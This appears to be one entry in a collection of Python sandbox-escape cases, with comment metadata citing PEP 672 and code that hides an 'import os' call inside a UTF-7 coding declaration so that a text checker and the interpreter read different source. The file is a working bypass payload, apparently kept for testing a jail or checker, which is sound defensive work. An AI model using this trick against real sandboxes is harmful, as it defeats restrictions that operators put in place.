# aim: have the checker read another text than the compiler
# mechanism: a coding line, and bytes that mean other letters in it
# source: PEP 672
# language: builtins
# reason: a cell is text; bytes with a coding of their own are decoded before they are checked
# jail: process
# plain: loot
text = "# -*- coding: utf-7 -*-\nfound +AD0- +AF8AXw-import+AF8AXw-('os')\n"
space = {}
exec(text.encode(), space)
loot(space["found"])
